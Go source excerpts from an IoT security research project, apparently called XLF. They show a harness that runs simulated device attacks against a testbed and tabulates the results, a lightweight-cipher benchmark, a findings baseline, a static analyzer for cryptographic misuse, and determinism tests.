	case v >= 1e9:
		return fmt.Sprintf("%.2gGHz", v/1e9)
	case v >= 1e6:
		return fmt.Sprintf("%.3gMHz", v/1e6)
	default:
		return fmt.Sprintf("%.4gkHz", v/1e3)
	}
}

func memShort(v int64) string {
	switch {
	case v == 0:
		return "NA"
	case v >= 1<<30:
		return fmt.Sprintf("%dGB", v>>30)
	case v >= 1<<20:
		return fmt.Sprintf("%dMB", v>>20)
	case v >= 1<<10:
		return fmt.Sprintf("%dKB", v>>10)
	default:
		return fmt.Sprintf("%dB", v)
	}
}

// runTable2 regenerates Table II by *executing* each attack three ways —
// against the vulnerable home, against the hardened platform (signed OTA,
// fine-grained grants, signed events), and under the full XLF runtime —
// reporting the paper's triple plus each outcome.
//
// It is the T2 registry entry. Each attack's three-way execution
// (vulnerable home, hardened platform, full XLF) is an independent sweep
// point, so the row grid fans out across the env's worker budget.
func runTable2(env *Env) *Result {
	r := &Result{ID: "T2", Title: "Device-layer attack surface (paper Table II), executed"}
	t := metrics.NewTable("", "Device", "Vulnerability", "Attack", "Impact", "Vulnerable home", "Hardened platform", "XLF detects")

	type t2Row struct {
		cells                       [7]string
		succVuln, succHard, detects bool
		err                         error
	}
	rows := Sweep(env, len(attack.TableIIAttacks()), func(i int, env *Env) t2Row {
		// Each point re-derives its own attack instance: attacks carry
		// execution state, so sweep points must not share them.
		a := attack.TableIIAttacks()[i]
		seed := env.Seed
		vuln, method, impact := a.TableII()
		var row t2Row

		// Vulnerable home: no XLF, flawed platform.
		hv, err := testbed.New(testbed.Config{Seed: seed, Flaws: vulnerableFlaws()})
		if err != nil {
			row.err = err
			return row
		}
		resV := a.Execute(hv.AttackEnv())
		hv.Run(30 * time.Second)

		// Hardened platform: signed OTA, fine-grained grants, DoT.
		hx, err := testbed.New(testbed.Config{Seed: seed, ResolverMode: "DoT"})
		if err != nil {
			row.err = err
			return row
		}
		resX := a.Execute(hx.AttackEnv())
		hx.Run(30 * time.Second)

		// Full XLF runtime over the flawed platform: does the cross-layer
		// stack at least detect the attack even where it cannot prevent
		// the underlying flaw?
		sys, err := xlf.New(xlf.Options{Seed: seed, Flaws: vulnerableFlaws()})
		if err != nil {
			row.err = err
			return row
		}
		a.Execute(sys.Home.AttackEnv())
		sys.Home.Run(2 * time.Minute)
		det := "missed"
		if len(sys.Core.Alerts()) > 0 {
			det = "DETECTED"
			row.detects = true
		}
		row.succVuln = resV.Succeeded
		row.succHard = resX.Succeeded
		row.cells = [7]string{targetOf(a), vuln, method, impact, outcome(resV), outcome(resX), det}
		return row
	})

	succVuln, succHard, detected := 0, 0, 0
	for _, row := range rows {
		if row.err != nil {
			r.Output = row.err.Error()
			return r
		}
		if row.succVuln {
			succVuln++
		}
		if row.succHard {
			succHard++
		}
		if row.detects {
			detected++
		}
		t.AddRow(row.cells[:]...)
	}
	t.Title = fmt.Sprintf("(vulnerable home: %d/7 succeed; hardened: %d/7 succeed; XLF detects %d/7)",
		succVuln, succHard, detected)
	r.Output = t.String()
	r.num("vulnerable_successes", float64(succVuln))
	r.num("hardened_successes", float64(succHard))
	r.num("xlf_detected", float64(detected))
	return r
}

func targetOf(a attack.Attack) string {
	switch at := a.(type) {
	case *attack.StaticPasswordMitM:
		return "Smart light bulb"
	case *attack.BufferOverflow:
		return "Wall pad"
	case *attack.FirmwareModulation:
		return "Network camera"
	case *attack.Rickrolling:
		return "Chromecast"
	case *attack.UPnPSniff:
		return "Coffee machine"
	case *attack.MaliciousMail:
		return "Fridge"
	case *attack.OpenWiFiMitM:
		return "Oven"
	default:
		_ = at
		return a.Name()
	}
}

func outcome(res attack.Result) string {
	if res.Succeeded {
		return "SUCCEEDS"
	}
	return "blocked"
}

// runTable3 regenerates Table III from the cipher registry and adds measured
// software throughput for each algorithm (the NIST IR 8114 software
// metric), which the device cost model consumes.
//
// It is the T3 registry entry; the throughput column is timed on
// env.Clock.
func runTable3(env *Env) *Result {
	r := &Result{ID: "T3", Title: "Lightweight cryptographic algorithms (paper Table III), measured"}
	reg := lwc.NewRegistry()
	t := metrics.NewTable("", "Algorithm", "Key Size", "Block", "Structure", "Rounds", "KAT", "MB/s (this host)")

	var fastest string
	var fastestRate float64
	for _, info := range reg.All() {
		rate := measureThroughput(env, info)
		if rate > fastestRate {
			fastestRate, fastest = rate, info.Name
		}
		kat := "property"
		if info.Verified {
			kat = "published"
		}
		t.AddRow(info.Name, keySizes(info.KeySizes), fmt.Sprint(info.BlockSize),
			string(info.Structure), info.Rounds, kat, fmt.Sprintf("%.1f", rate/1e6))
	}
	r.Output = t.String() + fmt.Sprintf("\nfastest software cipher on this host: %s (%.1f MB/s)\n", fastest, fastestRate/1e6)
	r.num("algorithms", float64(t.Rows()))
	r.num("fastest_mbps", fastestRate/1e6)
	return r
}

func keySizes(ks []int) string {
	s := ""
	for i, k := range ks {
		if i > 0 {
			s += "/"
		}
		s += fmt.Sprint(k)
	}
	return s
}

// measureThroughput times ~0.5 MB of ECB encryption on the env clock.
// Wall-clock use is confined to measurement (never simulation logic) and
// enters only through Env.Clock.
func measureThroughput(env *Env, info lwc.Info) float64 {
	key := make([]byte, info.DefaultKeyBits()/8)
	for i := range key {
		key[i] = byte(i * 7)
	}
	blk, err := info.New(key)
	if err != nil {
		return 0
	}
	bs := blk.BlockSize()
	buf := make([]byte, bs)
	const total = 1 << 19
	iters := total / bs
	el := env.timeSection(func() {
		for i := 0; i < iters; i++ {
			blk.Encrypt(buf, buf)
		}
	}).Seconds()
	if el <= 0 {
		return 0
	}
	return float64(total) / el
}

// Figure1 renders the layered architecture from the live inventory.
func Figure1() *Result {
	arch := core.NewArchitecture("gateway")
	for _, c := range core.StandardComponents() {
		arch.Register(c)
	}
	return &Result{ID: "F1", Title: "Generic layered IoT architecture", Output: arch.RenderFigure1()}
}

// Figure2 renders the protocol/TCP-IP mapping from the registry. The
// figure table is compiled in, so a constructor failure is a programming
// error: MustRegistry is the sanctioned panic.
func Figure2() *Result {
	reg := proto.MustRegistry()
	r := &Result{ID: "F2", Title: "IoT protocols on the TCP/IP stack", Output: reg.RenderFigure2()}
	r.num("protocols", float64(len(reg.All())))
	return r
}

// Figure3 renders the attack-surface map from the attack library's layer
// annotations.
func Figure3() *Result {
	r := &Result{ID: "F3", Title: "IoT attack surface areas"}
	byLayer := map[attack.Layer][]string{}
	all := append(attack.TableIIAttacks(),
		&attack.MiraiRecruit{CNC: "wan:cnc"},
		&attack.DDoSFlood{Victim: "wan:victim"},
		&attack.DNSPoison{},
		&attack.EventSpoof{},
		&attack.RogueApp{},
		&attack.PolicyAbuse{},
	)
	for _, a := range all {
		byLayer[a.Layer()] = append(byLayer[a.Layer()], a.Name())
	}
	out := "Figure 3: attack surface areas by layer\n"
	for _, l := range []attack.Layer{attack.LayerDevice, attack.LayerNetwork, attack.LayerService} {
		out += fmt.Sprintf("\n[%s layer]\n", l)
		for _, n := range byLayer[l] {
			out += "  - " + n + "\n"
		}
	}
	r.Output = out
	r.num("attacks", float64(len(all)))
	return r
}

// Figure4 renders the XLF cross-layer design.
func Figure4() *Result {
	arch := core.NewArchitecture("gateway")
	for _, c := range core.StandardComponents() {
		arch.Register(c)
	}
	return &Result{ID: "F4", Title: "XLF cross-layer security design", Output: arch.RenderFigure4()}
}
