package analysis

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
)

// A Baseline freezes a set of known findings so CI can gate on "no NEW
// findings" while a legacy backlog is burned down. Entries are keyed on
// (file, rule, message) — deliberately without line numbers, so editing
// unrelated parts of a file does not resurrect its baselined findings.
// The price is that several identical findings in one file collapse to
// one entry; for a gate that only needs "was this exact complaint
// already reviewed?", that trade is right.
//
// Each entry may carry a free-form justification explaining why the
// finding is waived rather than fixed (the review trail for deliberate
// exceptions like the simulation's fixed demo keys). Justifications are
// preserved across load/write cycles.
type Baseline struct {
	entries map[baselineKey]string // key -> justification ("" when none)
}

type baselineKey struct {
	File    string
	Rule    string
	Message string
}

// baselineEntry is the on-disk form (a sorted JSON array, so the file
// diffs cleanly under review).
type baselineEntry struct {
	File    string `json:"file"`
	Rule    string `json:"rule"`
	Message string `json:"message"`
	// Justification documents why this finding is waived, not fixed.
	Justification string `json:"justification,omitempty"`
}

// NewBaseline freezes the given findings.
func NewBaseline(findings []Finding) *Baseline {
	b := &Baseline{entries: make(map[baselineKey]string, len(findings))}
	for _, f := range findings {
		b.entries[baselineKey{f.File, f.Rule, f.Message}] = ""
	}
	return b
}

// LoadBaseline reads a baseline file written by WriteFile.
func LoadBaseline(path string) (*Baseline, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var entries []baselineEntry
	if err := json.Unmarshal(data, &entries); err != nil {
		return nil, fmt.Errorf("baseline %s: %w", path, err)
	}
	b := &Baseline{entries: make(map[baselineKey]string, len(entries))}
	for _, e := range entries {
		b.entries[baselineKey{e.File, e.Rule, e.Message}] = e.Justification
	}
	return b, nil
}

// WriteFile persists the baseline as sorted, indented JSON.
func (b *Baseline) WriteFile(path string) error {
	entries := make([]baselineEntry, 0, len(b.entries))
	for k, just := range b.entries {
		entries = append(entries, baselineEntry{File: k.File, Rule: k.Rule, Message: k.Message, Justification: just})
	}
	sort.Slice(entries, func(i, j int) bool {
		a, c := entries[i], entries[j]
		if a.File != c.File {
			return a.File < c.File
		}
		if a.Rule != c.Rule {
			return a.Rule < c.Rule
		}
		return a.Message < c.Message
	})
	data, err := json.MarshalIndent(entries, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// Filter splits findings into those not covered by the baseline (kept,
// i.e. new) and those it suppresses.
func (b *Baseline) Filter(findings []Finding) (kept []Finding, suppressed int) {
	for _, f := range findings {
		if _, ok := b.entries[baselineKey{f.File, f.Rule, f.Message}]; ok {
			suppressed++
			continue
		}
		kept = append(kept, f)
	}
	return kept, suppressed
}

// Unmatched lists baseline entries no current finding hits — stale
// waivers whose underlying code was fixed or deleted. Each is rendered
// "file: [rule] message", sorted, ready for a driver warning.
func (b *Baseline) Unmatched(findings []Finding) []string {
	hit := make(map[baselineKey]bool, len(findings))
	for _, f := range findings {
		hit[baselineKey{f.File, f.Rule, f.Message}] = true
	}
	var stale []string
	for k := range b.entries {
		if !hit[k] {
			stale = append(stale, fmt.Sprintf("%s: [%s] %s", k.File, k.Rule, k.Message))
		}
	}
	sort.Strings(stale)
	return stale
}

// Prune drops every entry no current finding matches and reports how
// many were removed. Pair with WriteFile to rewrite the file.
func (b *Baseline) Prune(findings []Finding) int {
	hit := make(map[baselineKey]bool, len(findings))
	for _, f := range findings {
		hit[baselineKey{f.File, f.Rule, f.Message}] = true
	}
	removed := 0
	for k := range b.entries {
		if !hit[k] {
			delete(b.entries, k)
			removed++
		}
	}
	return removed
}

// Merge carries justifications from old into b for entries present in
// both, so re-freezing a baseline does not erase the review trail.
func (b *Baseline) Merge(old *Baseline) {
	if old == nil {
		return
	}
	for k, just := range old.entries {
		if _, ok := b.entries[k]; ok && just != "" {
			b.entries[k] = just
		}
	}
}
