package analysis

// The crypto-misuse rule family: path-sensitive checks over the CFG and
// reaching definitions that key material handed to the configured
// crypto entry points is neither hardcoded, too short, nor derived from
// insecure randomness; that nonces/IVs are not constant and not reused
// across sealing calls; and that MAC/tag comparisons go through a
// constant-time primitive. The consumer table lives in xlfconfig.go
// (XLFCryptoConfig); fixtures configure their own.
//
// Deliberate exceptions — the simulation's fixed demo keys — are waived
// with an `xlf:allow-cryptomisuse` comment or a baseline entry.

import (
	"go/ast"
	"go/token"
	"go/types"
	"strconv"
	"strings"
)

// CryptoAllowMarker waives a cryptomisuse finding for its line (or the
// whole function from a doc comment).
const CryptoAllowMarker = "xlf:allow-cryptomisuse"

// CryptoKeyCall names one call that consumes key material.
type CryptoKeyCall struct {
	Pkg  string // declaring package import path
	Recv string // receiver type name for methods ("" for functions)
	Name string
	// KeyArg is the index of the key parameter.
	KeyArg int
	// MinKeyLen is the minimum acceptable key length in bytes (0 skips
	// the length check; lightweight 64/80-bit ciphers set it low by
	// design).
	MinKeyLen int
}

// CryptoNonceCall names one call that consumes a nonce/IV. Matching is
// syntactic (method name + arity) because AEAD-style Seal methods
// usually live on stdlib or generated types the oracle cannot resolve.
type CryptoNonceCall struct {
	Name     string
	NArgs    int
	NonceArg int
}

// CryptoConfig is the consumer table the analyzer enforces.
type CryptoConfig struct {
	Keys   []CryptoKeyCall
	Nonces []CryptoNonceCall
	// RandPkgs are packages whose output must never feed key or nonce
	// material (math/rand and friends).
	RandPkgs []string
}

// NewCryptoMisuse builds the cryptomisuse analyzer for one consumer
// table.
func NewCryptoMisuse(cfg CryptoConfig) Analyzer {
	return &cryptoMisuse{cfg: cfg, oracle: newTypeOracle()}
}

type cryptoMisuse struct {
	cfg    CryptoConfig
	oracle *typeOracle
}

func (c *cryptoMisuse) Name() string { return "cryptomisuse" }
func (c *cryptoMisuse) Doc() string {
	return "key material must not be hardcoded, short or math/rand-derived; nonces must be fresh; MAC compares must be constant-time"
}

func (c *cryptoMisuse) Prepare(pkgs []*Package) { c.oracle.check(pkgs) }

func (c *cryptoMisuse) Check(pkg *Package) []Finding {
	var out []Finding
	pt := c.oracle.typesOf(pkg)
	for fi := range pkg.Files {
		f := &pkg.Files[fi]
		if f.Test {
			// Test vectors legitimately hardcode keys and nonces.
			continue
		}
		allowed := allowedLines(pkg.Fset, f.AST, CryptoAllowMarker)
		imports := importMap(f.AST)
		for _, fn := range Functions(f.AST) {
			w := &cryptoWalker{
				c: c, pkg: pkg, pt: pt, imports: imports,
				g: BuildCFG(fn.Name, fn.Body),
			}
			w.rd = NewReachingDefs(w.g, pt)
			for _, fnd := range w.check() {
				if !allowed[fnd.Line] {
					out = append(out, fnd)
				}
			}
		}
	}
	return out
}

// cryptoWalker checks one function.
type cryptoWalker struct {
	c       *cryptoMisuse
	pkg     *Package
	pt      *pkgTypes
	imports map[string]string
	g       *CFG
	rd      *ReachingDefs

	findings []Finding
	// randTouched holds objects a RandPkgs call wrote into (directly or
	// via an assignment whose RHS draws from one).
	randTouched map[any]bool
}

// site locates one interesting call within the CFG.
type site struct {
	block *Block
	idx   int
	call  *ast.CallExpr
}

func (w *cryptoWalker) reportf(pos token.Pos, format string, args ...any) {
	w.findings = append(w.findings, w.pkg.finding("cryptomisuse", pos, format, args...))
}

// reportFixable is reportf with a mechanical edit attached: replace the
// source range [start, end) with newText, importing crypto/hmac.
func (w *cryptoWalker) reportFixable(pos token.Pos, start, end token.Pos, newText, format string, args ...any) {
	f := w.pkg.finding("cryptomisuse", pos, format, args...)
	f.Fix = &SuggestedFix{
		Start:     w.pkg.Fset.Position(start).Offset,
		End:       w.pkg.Fset.Position(end).Offset,
		NewText:   newText,
		AddImport: "crypto/hmac",
	}
	w.findings = append(w.findings, f)
}

func (w *cryptoWalker) check() []Finding {
	w.collectRandTouched()

	nonceSites := make(map[any][]site) // nonce object -> consuming sites
	for _, b := range w.g.Blocks {
		for i, n := range b.Nodes {
			inspectNode(n, func(x ast.Node) bool {
				switch x := x.(type) {
				case *ast.FuncLit:
					return false // literal bodies are separate functions
				case *ast.CallExpr:
					w.checkKeyCall(b, i, x)
					w.recordNonceSite(nonceSites, b, i, x)
					w.checkEqualCall(x)
				case *ast.BinaryExpr:
					w.checkCompare(x)
				}
				return true
			})
		}
	}
	w.checkNonceReuse(nonceSites)
	return w.findings
}

// ---------------------------------------------------------------------
// Key material.

// checkKeyCall matches call against the key-consumer table and vets the
// key argument.
func (w *cryptoWalker) checkKeyCall(b *Block, idx int, call *ast.CallExpr) {
	cal, _ := resolveCall(w.pt, w.imports, w.pkg.ImportPath, call)
	for _, spec := range w.c.cfg.Keys {
		if cal.name != spec.Name || cal.recv != spec.Recv || cal.pkg != spec.Pkg {
			continue
		}
		if spec.KeyArg >= len(call.Args) {
			continue
		}
		w.checkKeyArg(b, idx, call, call.Args[spec.KeyArg], spec)
	}
}

// checkKeyArg classifies the key expression: hardcoded literal, short
// make()ed buffer, or insecure-rand-derived — directly or through its
// reaching definitions.
func (w *cryptoWalker) checkKeyArg(b *Block, idx int, call *ast.CallExpr, key ast.Expr, spec CryptoKeyCall) {
	callee := exprText(call.Fun)
	if w.exprUsesRand(key) {
		w.reportf(call.Pos(), "key material for %s drawn from %s; use crypto/rand", callee, w.randPkgList())
		return
	}
	if n, hard, known := literalKeyLen(key); known {
		w.reportKeyLen(call.Pos(), callee, n, hard, spec)
		return
	}
	id, isID := key.(*ast.Ident)
	if !isID {
		return
	}
	obj := w.rd.Obj(id)
	if w.randTouched[obj] {
		w.reportf(call.Pos(), "key material %q for %s drawn from %s; use crypto/rand", id.Name, callee, w.randPkgList())
		return
	}
	defs := w.rd.At(b, idx, obj)
	if len(defs) == 0 {
		return // parameter or unknown origin: the caller is responsible
	}
	// Only report when every definition that can reach the call is a
	// literal: mixed paths mean at least one dynamic origin.
	worstHard := true
	worstLen := -1
	for _, d := range defs {
		n, hard, known := literalKeyLen(d.Write.RHS)
		if !known {
			return
		}
		worstHard = worstHard && hard
		if worstLen < 0 || n < worstLen {
			worstLen = n
		}
	}
	w.reportKeyLen(call.Pos(), callee, worstLen, worstHard, spec)
}

func (w *cryptoWalker) reportKeyLen(pos token.Pos, callee string, n int, hard bool, spec CryptoKeyCall) {
	short := spec.MinKeyLen > 0 && n < spec.MinKeyLen
	switch {
	case hard && short:
		w.reportf(pos, "hardcoded %d-byte key literal for %s (below the %d-byte minimum); inject provisioned key material",
			n, callee, spec.MinKeyLen)
	case hard:
		w.reportf(pos, "hardcoded %d-byte key literal for %s; inject provisioned key material", n, callee)
	case short:
		w.reportf(pos, "key for %s is only %d bytes (minimum %d)", callee, n, spec.MinKeyLen)
	}
}

// literalKeyLen computes the byte length of a statically-known key
// expression. hard marks content-hardcoded forms (literals) as opposed
// to fixed-size-but-dynamic ones (make).
func literalKeyLen(e ast.Expr) (n int, hard, known bool) {
	switch e := e.(type) {
	case *ast.BasicLit:
		if e.Kind == token.STRING {
			if s, err := strconv.Unquote(e.Value); err == nil {
				return len(s), true, true
			}
		}
	case *ast.CompositeLit:
		// []byte{0x01, ...}
		if arr, isArr := e.Type.(*ast.ArrayType); isArr {
			if id, isID := arr.Elt.(*ast.Ident); isID && (id.Name == "byte" || id.Name == "uint8") {
				return len(e.Elts), true, true
			}
		}
	case *ast.CallExpr:
		// []byte("...") conversion.
		if arr, isArr := e.Fun.(*ast.ArrayType); isArr && len(e.Args) == 1 {
			if id, isID := arr.Elt.(*ast.Ident); isID && (id.Name == "byte" || id.Name == "uint8") {
				if n, _, known := literalKeyLen(e.Args[0]); known {
					return n, true, true
				}
			}
		}
		// make([]byte, N) with a literal length.
		if id, isID := e.Fun.(*ast.Ident); isID && id.Name == "make" && len(e.Args) >= 2 {
			if lit, isLit := e.Args[1].(*ast.BasicLit); isLit && lit.Kind == token.INT {
				if v, err := strconv.Atoi(lit.Value); err == nil {
					return v, false, true
				}
			}
		}
	case *ast.ParenExpr:
		return literalKeyLen(e.X)
	}
	return 0, false, false
}

// ---------------------------------------------------------------------
// Insecure randomness.

// collectRandTouched marks every object that an insecure-rand call
// writes into: `rand.Read(k)`, `k = rand.Uint64()`, `k[i] = byte(rand.Intn(n))`.
func (w *cryptoWalker) collectRandTouched() {
	w.randTouched = make(map[any]bool)
	mark := func(e ast.Expr) {
		if id, isID := rootIdent(e); isID {
			w.randTouched[identObj(w.pt, id)] = true
		}
	}
	for _, b := range w.g.Blocks {
		for _, n := range b.Nodes {
			inspectNode(n, func(x ast.Node) bool {
				switch x := x.(type) {
				case *ast.FuncLit:
					return false
				case *ast.AssignStmt:
					rhsRand := false
					for _, r := range x.Rhs {
						rhsRand = rhsRand || w.exprUsesRand(r)
					}
					if rhsRand {
						for _, l := range x.Lhs {
							mark(l)
						}
					}
				case *ast.CallExpr:
					if w.callIsRand(x) {
						for _, a := range x.Args {
							mark(a)
						}
					}
				}
				return true
			})
		}
	}
}

// rootIdent peels selectors, indexes and derefs down to the base
// identifier.
func rootIdent(e ast.Expr) (*ast.Ident, bool) {
	for {
		switch x := e.(type) {
		case *ast.Ident:
			return x, true
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		case *ast.ParenExpr:
			e = x.X
		case *ast.SliceExpr:
			e = x.X
		default:
			return nil, false
		}
	}
}

// callIsRand reports whether call resolves to one of the configured
// insecure randomness packages.
func (w *cryptoWalker) callIsRand(call *ast.CallExpr) bool {
	cal, _ := resolveCall(w.pt, w.imports, w.pkg.ImportPath, call)
	for _, p := range w.c.cfg.RandPkgs {
		if cal.pkg == p {
			return true
		}
	}
	return false
}

// exprUsesRand reports whether e contains a call into a RandPkgs
// package.
func (w *cryptoWalker) exprUsesRand(e ast.Expr) bool {
	if e == nil {
		return false
	}
	found := false
	ast.Inspect(e, func(x ast.Node) bool {
		if found {
			return false
		}
		if call, isCall := x.(*ast.CallExpr); isCall && w.callIsRand(call) {
			found = true
			return false
		}
		return true
	})
	return found
}

func (w *cryptoWalker) randPkgList() string {
	return strings.Join(w.c.cfg.RandPkgs, "/")
}

// ---------------------------------------------------------------------
// Nonce freshness.

// recordNonceSite matches nonce-consuming calls; constant nonces are
// reported immediately, variable nonces are recorded for the pairwise
// reuse walk.
func (w *cryptoWalker) recordNonceSite(sites map[any][]site, b *Block, idx int, call *ast.CallExpr) {
	sel, isSel := call.Fun.(*ast.SelectorExpr)
	if !isSel {
		return
	}
	for _, spec := range w.c.cfg.Nonces {
		if sel.Sel.Name != spec.Name || len(call.Args) != spec.NArgs || spec.NonceArg >= len(call.Args) {
			continue
		}
		if id, isID := sel.X.(*ast.Ident); isID && w.imports[id.Name] != "" && !isLocalIdent(w.pt, id) {
			continue // pkg.Seal(...) is not a sealing method
		}
		nonce := call.Args[spec.NonceArg]
		if _, hard, known := literalKeyLen(nonce); known && hard {
			w.reportf(call.Pos(), "constant nonce/IV passed to %s; nonces must be unique per message", exprText(call.Fun))
			continue
		}
		if w.exprUsesRand(nonce) {
			w.reportf(call.Pos(), "nonce for %s drawn from %s; use crypto/rand or a message counter",
				exprText(call.Fun), w.randPkgList())
			continue
		}
		if id, isID := nonce.(*ast.Ident); isID {
			obj := w.rd.Obj(id)
			if w.randTouched[obj] {
				w.reportf(call.Pos(), "nonce %q for %s drawn from %s; use crypto/rand or a message counter",
					id.Name, exprText(call.Fun), w.randPkgList())
				continue
			}
			sites[obj] = append(sites[obj], site{block: b, idx: idx, call: call})
		}
	}
}

// checkNonceReuse reports a finding when one sealing site is reachable
// from another (or from itself, through a loop) without the nonce being
// rewritten in between: both calls then see the same nonce value.
func (w *cryptoWalker) checkNonceReuse(sites map[any][]site) {
	for obj, list := range sites {
		reported := make(map[*ast.CallExpr]bool)
		for _, from := range list {
			for _, to := range list {
				if reported[to.call] {
					continue
				}
				if w.reachesWithoutKill(from, to, obj) {
					w.reportf(to.call.Pos(),
						"nonce %q is reused by this %s call without an intervening update; derive a fresh nonce per message",
						nonceName(to.call, w.c.cfg.Nonces), exprText(to.call.Fun))
					reported[to.call] = true
				}
			}
		}
	}
}

func nonceName(call *ast.CallExpr, specs []CryptoNonceCall) string {
	sel := call.Fun.(*ast.SelectorExpr)
	for _, spec := range specs {
		if sel.Sel.Name == spec.Name && len(call.Args) == spec.NArgs {
			if id, isID := call.Args[spec.NonceArg].(*ast.Ident); isID {
				return id.Name
			}
		}
	}
	return "?"
}

// reachesWithoutKill walks the CFG from just after `from` looking for
// `to` along paths where obj is never completely rewritten. from == to
// detects reuse through a loop back edge.
func (w *cryptoWalker) reachesWithoutKill(from, to site, obj any) bool {
	// nodeKills reports whether executing node (block b, index i) fully
	// rewrites obj.
	nodeKills := func(b *Block, i int) bool {
		_, writes := nodeRefs(b.Nodes[i])
		for _, wr := range writes {
			if wr.Complete && identObj(w.pt, wr.Ident) == obj {
				return true
			}
		}
		return false
	}
	// scan advances through b starting at node index start; it returns
	// (found, blocked).
	scan := func(b *Block, start int) (bool, bool) {
		for i := start; i < len(b.Nodes); i++ {
			if b == to.block && i == to.idx {
				return true, false
			}
			if nodeKills(b, i) {
				return false, true
			}
		}
		return false, false
	}
	if found, blocked := scan(from.block, from.idx+1); found {
		return true
	} else if blocked {
		return false
	}
	seen := map[*Block]bool{}
	var walk func(b *Block) bool
	walk = func(b *Block) bool {
		if seen[b] {
			return false
		}
		seen[b] = true
		if found, blocked := scan(b, 0); found {
			return true
		} else if blocked {
			return false
		}
		for _, s := range b.Succs {
			if walk(s) {
				return true
			}
		}
		return false
	}
	for _, s := range from.block.Succs {
		if walk(s) {
			return true
		}
	}
	return false
}

// ---------------------------------------------------------------------
// Constant-time comparison.

// macish reports whether an expression's name looks like MAC/tag/digest
// material, by whole camelCase/snake_case segment.
var macSegments = map[string]bool{
	"mac": true, "cmac": true, "hmac": true, "tag": true, "sig": true,
	"signature": true, "digest": true, "sum": true, "checksum": true,
}

func macish(e ast.Expr) bool {
	var name string
	switch e := e.(type) {
	case *ast.Ident:
		name = e.Name
	case *ast.SelectorExpr:
		name = e.Sel.Name
	case *ast.CallExpr:
		// m.Sum(nil) is mac-ish by method name; string(tag) and other
		// single-argument conversions keep the operand's name.
		if sel, isSel := e.Fun.(*ast.SelectorExpr); isSel {
			name = sel.Sel.Name
			break
		}
		if len(e.Args) == 1 {
			return macish(e.Args[0])
		}
		return false
	case *ast.SliceExpr:
		return macish(e.X)
	case *ast.ParenExpr:
		return macish(e.X)
	default:
		return false
	}
	for _, seg := range splitIdent(name) {
		if macSegments[seg] {
			return true
		}
	}
	return false
}

// splitIdent breaks an identifier into lowercase segments on case
// transitions, underscores and digits ("wantHMAC" -> want, hmac).
func splitIdent(name string) []string {
	var segs []string
	var cur []rune
	flush := func() {
		if len(cur) > 0 {
			segs = append(segs, string(cur))
			cur = nil
		}
	}
	runes := []rune(name)
	for i, r := range runes {
		switch {
		case r == '_' || (r >= '0' && r <= '9'):
			flush()
		case r >= 'A' && r <= 'Z':
			// Start a new segment on lower->upper and on the last upper
			// of an acronym run ("HMACKey" -> hmac, key).
			if i > 0 && (runes[i-1] < 'A' || runes[i-1] > 'Z') {
				flush()
			} else if i+1 < len(runes) && runes[i+1] >= 'a' && runes[i+1] <= 'z' {
				flush()
			}
			cur = append(cur, r-'A'+'a')
		default:
			cur = append(cur, r)
		}
	}
	flush()
	return segs
}

// checkEqualCall flags bytes.Equal on a mac-ish operand. The fix swaps
// the callee for crypto/hmac.Equal, which takes the same arguments.
func (w *cryptoWalker) checkEqualCall(call *ast.CallExpr) {
	cal, _ := resolveCall(w.pt, w.imports, w.pkg.ImportPath, call)
	if cal.pkg == "bytes" && cal.name == "Equal" && len(call.Args) == 2 {
		if macish(call.Args[0]) || macish(call.Args[1]) {
			w.reportFixable(call.Pos(), call.Fun.Pos(), call.Fun.End(), "hmac.Equal",
				"MAC/tag compared with bytes.Equal; use crypto/hmac.Equal or crypto/subtle.ConstantTimeCompare")
		}
	}
}

// checkCompare flags ==/!= between mac-ish string values. Comparing
// integers named tagSize is fine; comparing tag strings is not. The fix
// rewrites the whole comparison to (!)hmac.Equal over []byte operands —
// a []byte conversion is valid on both string and []byte values, so it
// stays well-typed whichever the operands were.
func (w *cryptoWalker) checkCompare(n *ast.BinaryExpr) {
	if n.Op != token.EQL && n.Op != token.NEQ {
		return
	}
	side := func(e ast.Expr) bool { return macish(e) && w.stringish(e) }
	if side(n.X) || side(n.Y) {
		not := ""
		if n.Op == token.NEQ {
			not = "!"
		}
		fix := not + "hmac.Equal([]byte(" + exprText(n.X) + "), []byte(" + exprText(n.Y) + "))"
		w.reportFixable(n.Pos(), n.Pos(), n.End(), fix,
			"MAC/tag compared with %s; use crypto/hmac.Equal or crypto/subtle.ConstantTimeCompare", n.Op)
	}
}

// stringish reports whether e is string-typed: a string(...) conversion
// syntactically, or resolved to a string by the oracle.
func (w *cryptoWalker) stringish(e ast.Expr) bool {
	if call, isCall := e.(*ast.CallExpr); isCall && len(call.Args) == 1 {
		if id, isID := call.Fun.(*ast.Ident); isID && id.Name == "string" {
			return true
		}
	}
	if w.pt != nil {
		if tv, ok := w.pt.info.Types[e]; ok && tv.Type != nil {
			if basic, isBasic := tv.Type.Underlying().(*types.Basic); isBasic && basic.Kind() == types.String {
				return true
			}
		}
	}
	return false
}
