package exp

import (
	"bytes"
	"fmt"
	"testing"
	"time"

	"xlf/internal/obs"
)

// envFor returns an environment whose clock family is fake, so timed
// sections (Table III throughput, the E4 matching paths) report fixed
// durations and the rendered output carries no wall-clock noise. Forks
// mint fresh step clocks, so the env is safe at any parallelism.
func envFor(seed int64) *Env { return NewStepEnv(seed) }

// TestExperimentsDeterministic is the reproduction contract made a
// regression test: the same seed and a fake clock must render each
// experiment byte-identically across runs. The cases iterate the registry
// rather than a hand-maintained list.
func TestExperimentsDeterministic(t *testing.T) {
	for _, id := range []string{"T3", "E3", "E4", "E5", "E6"} {
		ex, ok := Lookup(id)
		if !ok {
			t.Fatalf("registry lost %s", id)
		}
		t.Run(ex.ID, func(t *testing.T) {
			a := ex.Run(envFor(7)).String()
			b := ex.Run(envFor(7)).String()
			if a != b {
				t.Errorf("%s is not deterministic:\n--- first run ---\n%s\n--- second run ---\n%s", ex.ID, a, b)
			}
		})
	}
}

// TestFullReportDeterministic replays the entire report twice. The heavy
// experiments (T2, E9) make this the longest test in the package, so it
// yields to -short.
func TestFullReportDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("full-report determinism sweep in -short mode")
	}
	a := Render(AllEnv(envFor(3)))
	b := Render(AllEnv(envFor(3)))
	if a != b {
		t.Fatal("full report differs between two runs with the same seed and a fake clock")
	}
}

// TestSchedulerDeterminismMatrix is the tentpole contract: at every
